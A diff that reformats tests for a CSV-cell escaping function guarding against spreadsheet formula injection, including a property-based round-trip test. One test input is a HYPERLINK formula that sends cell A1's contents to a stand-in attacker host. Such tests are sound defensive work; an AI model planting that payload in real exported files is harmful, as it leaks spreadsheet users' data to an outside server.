@@ -17,7 +17,9 @@ describe("escapeCsvCell", () => {
   });
 
   it("tests the first character only, whatever line breaks follow", () => {
-    expect(escapeCsvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n')).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n`);
+    expect(escapeCsvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n')).toBe(
+      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n`,
+    );
     expect(escapeCsvCell("@x\r\ny")).toBe("'@x\r\ny");
     expect(escapeCsvCell("Ana\n=1")).toBe("Ana\n=1");
   });
@@ -33,11 +35,16 @@ describe("escapeCsvCell", () => {
 
   it("reads back as the text behind an apostrophe, never as a formula, for any text", () => {
     fc.assert(
-      fc.property(fc.constantFrom(...FORMULA_STARTS), fc.string({ unit: fc.constantFrom("a", "=", '"', ",", ";", "\n", "\r", "\t", " ", "'") }), fc.constantFrom(",", ";"), (start, rest, delimiter) => {
-        const cell = roundTrip(start + rest, delimiter);
-        expect(cell).toBe(`'${start}${rest}`);
-        expect(startsLikeFormula(cell ?? "")).toBe(false);
-      }),
+      fc.property(
+        fc.constantFrom(...FORMULA_STARTS),
+        fc.string({ unit: fc.constantFrom("a", "=", '"', ",", ";", "\n", "\r", "\t", " ", "'") }),
+        fc.constantFrom(",", ";"),
+        (start, rest, delimiter) => {
+          const cell = roundTrip(start + rest, delimiter);
+          expect(cell).toBe(`'${start}${rest}`);
+          expect(startsLikeFormula(cell ?? "")).toBe(false);
+        },
+      ),
     );
   });
 });
